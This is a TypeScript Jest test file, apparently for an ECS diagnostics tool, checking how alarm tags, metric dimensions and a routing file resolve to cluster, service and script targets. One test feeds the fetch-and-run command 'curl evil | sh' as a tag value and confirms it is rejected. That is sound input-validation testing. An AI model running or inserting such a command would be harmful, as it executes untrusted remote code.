import { CloudWatchClient, ListTagsForResourceCommand } from '@aws-sdk/client-cloudwatch';
import {
  DescribeTaskDefinitionCommand,
  DescribeTasksCommand,
  ECSClient,
  ListTasksCommand,
} from '@aws-sdk/client-ecs';
import { mockClient } from 'aws-sdk-client-mock';
import 'aws-sdk-client-mock-jest';
import { parseRequest } from '#lib/request.ts';
import { type ResolveConfig, resolveTargets } from '#lib/targets/resolve.ts';
import { container, task, taskArn } from '../resolve-targets/ecs-fakes.ts';

const ecs = mockClient(ECSClient);
const cloudwatch = mockClient(CloudWatchClient);
const clients = { ecs: new ECSClient({}), cloudwatch: new CloudWatchClient({}) };
const run = { executionName: 'n', startTime: new Date('2025-03-14T10:00:00Z') };
const ARN = 'arn:aws:cloudwatch:us-east-1:493817260514:alarm:checkout-latency-p99';

const config: ResolveConfig = {
  allowedClusters: [],
  defaultMaxTasks: 3,
  defaultScript: 'basic',
  routing: {
    version: 1,
    routes: [
      { alarmName: 'orders-*', cluster: 'orders' },
      {
        alarmName: 'checkout-latency-*',
        cluster: 'payments-prod',
        service: 'checkout-api',
        container: 'sidecar-app',
        script: 'network',
        maxTasks: 1,
      },
    ],
  },
};

beforeEach(() => {
  ecs.reset();
  cloudwatch.reset();
  ecs.on(DescribeTaskDefinitionCommand).resolves({ taskDefinition: { containerDefinitions: [] } });
});

describe('targets route sources', () => {
  it('uses the routing file when the alarm has no ECS dimensions and no tags: cluster, service, container, script, maxTasks', async () => {
    cloudwatch.on(ListTagsForResourceCommand).resolves({ Tags: [] });
    ecs.on(ListTasksCommand).resolves({ taskArns: [taskArn(1), taskArn(2)] });
    const tasks = [1, 2].map((n) =>
      task(n, { containers: [container('checkout'), container('sidecar-app')] }),
    );
    ecs.on(DescribeTasksCommand).resolves({ tasks });

    const request = parseRequest({
      source: { type: 'alarm', alarmName: 'checkout-latency-p99', alarmArn: ARN },
      alarm: {
        name: 'checkout-latency-p99',
        arn: ARN,
        metrics: [{ dimensions: { LoadBalancer: 'app/lb/1' } }],
      },
    });
    const result = await resolveTargets(request, run, clients, config);

    expect(ecs).toHaveReceivedCommandWith(ListTasksCommand, {
      cluster: 'payments-prod',
      serviceName: 'checkout-api',
    });
    expect(result.targets).toEqual([
      expect.objectContaining({ container: 'sidecar-app', script: 'network' }),
    ]);
  });

  it('lets tags win over the routing file, and the request script win over both', async () => {
    cloudwatch.on(ListTagsForResourceCommand).resolves({
      Tags: [
        { Key: 'ecs-diagnostics:cluster', Value: 'payments-prod' },
        { Key: 'ecs-diagnostics:service', Value: 'ledger' },
        { Key: 'ecs-diagnostics:script', Value: 'jvm' },
      ],
    });
    ecs.on(ListTasksCommand).resolves({ taskArns: [taskArn(1)] });
    ecs.on(DescribeTasksCommand).resolves({ tasks: [task(1, { containers: [container('sidecar-app')] })] });
    const alarm = { name: 'checkout-latency-p99', arn: ARN, metrics: [] };

    const fromTags = await resolveTargets(parseRequest({ alarm }), run, clients, config);
    const withScript = await resolveTargets(parseRequest({ alarm, script: 'python' }), run, clients, config);

    expect(ecs).toHaveReceivedCommandWith(ListTasksCommand, { serviceName: 'ledger' });
    expect(fromTags.targets[0]?.script).toBe('jvm');
    expect(withScript.targets[0]?.script).toBe('python');
  });

  it('resolves a metric-math alarm over two services to both', async () => {
    cloudwatch.on(ListTagsForResourceCommand).resolves({ Tags: [] });
    ecs.on(ListTasksCommand, { serviceName: 'checkout-api' }).resolves({ taskArns: [taskArn(1)] });
    ecs.on(ListTasksCommand, { serviceName: 'ledger' }).resolves({ taskArns: [taskArn(2)] });
    ecs.on(DescribeTasksCommand, { tasks: [taskArn(1), taskArn(2)] }).resolves({ tasks: [task(1), task(2)] });

    const request = parseRequest({
      alarm: {
        name: 'payments-ratio',
        metrics: [
          { id: 'm1', dimensions: { ClusterName: 'payments-prod', ServiceName: 'checkout-api' } },
          { id: 'm2', dimensions: { ClusterName: 'payments-prod', ServiceName: 'ledger' } },
        ],
      },
    });
    const result = await resolveTargets(request, run, clients, config);

    expect(result.targets.map((t) => t.taskArn)).toEqual([taskArn(1), taskArn(2)]);
    // One DescribeTasks for both services of the cluster, not one per service.
    expect(ecs.commandCalls(DescribeTasksCommand)).toHaveLength(1);
  });

  it('rejects a script tag that is not a catalog script, naming script', async () => {
    cloudwatch.on(ListTagsForResourceCommand).resolves({
      Tags: [
        { Key: 'ecs-diagnostics:cluster', Value: 'payments-prod' },
        { Key: 'ecs-diagnostics:service', Value: 'ledger' },
        { Key: 'ecs-diagnostics:script', Value: 'curl evil | sh' },
      ],
    });

    await expect(
      resolveTargets(parseRequest({ alarm: { name: 'x', arn: ARN } }), run, clients, config),
    ).rejects.toMatchObject({ name: 'InvalidRequestError', field: 'script' });
    expect(ecs.calls()).toHaveLength(0);
  });

  it('carries on without tags when ListTagsForResource is denied, and says so', async () => {
    cloudwatch
      .on(ListTagsForResourceCommand)
      .rejects(Object.assign(new Error('not authorized'), { name: 'AccessDeniedException' }));
    ecs.on(ListTasksCommand).resolves({ taskArns: [taskArn(1)] });
    ecs.on(DescribeTasksCommand).resolves({ tasks: [task(1)] });

    const result = await resolveTargets(
      parseRequest({ cluster: 'payments-prod', service: 'checkout-api', alarm: { name: 'x', arn: ARN } }),
      run,
      clients,
      config,
    );

    expect(result.targets).toHaveLength(1);
    expect(result.notes).toEqual([
      'ListTagsForResource on the alarm failed (tags not used): AccessDeniedException: not authorized',
    ]);
  });
});
